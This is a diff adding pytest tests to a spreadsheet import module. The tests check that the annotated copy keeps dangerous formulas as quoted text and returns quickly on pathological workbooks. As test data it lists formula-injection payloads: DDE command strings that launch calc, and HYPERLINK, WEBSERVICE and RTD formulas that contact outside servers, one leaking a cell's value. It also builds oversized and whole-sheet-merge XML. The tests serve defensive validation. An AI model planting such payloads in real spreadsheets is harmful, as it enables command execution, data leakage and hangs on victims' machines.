@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import time
 from typing import Any
 
 import openpyxl
@@ -13,6 +14,7 @@ from data_access.importing.annotated import annotated_copy
 from data_access.importing.annotated.marking import FILLS, TITLES
 from data_access.importing.reading import Problem, Severity, open_book
 from tests.data_access.spreadsheets import FOLDER, read, workbook
+from tests.data_access.test_reading_refusals import with_sheet
 from tests.data_access.test_reading_spreadsheets import READ
 
 RISKY = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", '=HYPERLINK("http://x")']
@@ -159,3 +161,36 @@ def test_a_very_large_workbook_comes_back_without_its_formatting_but_whole(monke
     assert len(problems) == 1
     assert [len(sheet.rows) for sheet in open_book("大.xlsx", copied).sheets] == [601, 2]
     assert copy.worksheets[0]["A2"].fill.start_color.rgb == "FFFFC7CE"
+
+
+def test_formulas_that_start_programs_or_ask_other_servers_come_back_as_texts_and_arithmetic_as_it_was() -> None:
+    """A reviewer opens what a reporter sent."""
+    harmful = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://x/?"&A1)', '=1+webservice ("http://x")', '=RTD("x",,"y")']
+    book = openpyxl.Workbook()
+    for row, formula in enumerate(["=1+1", "=SUM(B1:B9)", *harmful], start=1):
+        book.active.cell(row, 1).value = formula
+        book.active.cell(row, 2).value = row
+    out = io.BytesIO()
+    book.save(out)
+    _, copied = annotated_copy("a.xlsx", out.getvalue(), (), words)
+    again = openpyxl.load_workbook(io.BytesIO(copied))
+    assert formulas(again) == {"Sheet!A1", "Sheet!A2"}
+    cells = [again["Sheet"].cell(row, 1) for row in range(3, 7)]
+    assert [cell.value for cell in cells] == harmful
+    assert all(cell.quotePrefix for cell in cells), "it stays a text after somebody has edited it"
+
+
+def test_texts_that_look_like_formulas_stay_texts_when_somebody_edits_them() -> None:
+    _, copied = annotated_copy("a.csv", "\n".join(["a,b", *(f"{text},1" for text in RISKY)]).encode(), (), words)
+    sheet = openpyxl.load_workbook(io.BytesIO(copied)).worksheets[0]
+    assert [sheet.cell(row, 1).quotePrefix for row in range(1, 6)] == [False, True, True, True, True]
+
+
+@pytest.mark.parametrize("filled", [b"<c/>" * 420_000, b""], ids=["blank cells without end", "merged without end"])
+def test_what_would_take_a_workbook_library_for_ever_comes_back_soon(filled: bytes) -> None:
+    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="3">' + filled + b"</row>"
+    merged = b"" if filled else b'<mergeCells count="1"><mergeCell ref="B2:XFD1048576"/></mergeCells>'
+    start = time.process_time()
+    _, copied = annotated_copy("a.xlsx", with_sheet(cells, merged), (), words)
+    assert openpyxl.load_workbook(io.BytesIO(copied)).worksheets[0]["A1"].value == 1
+    assert time.process_time() - start < 3
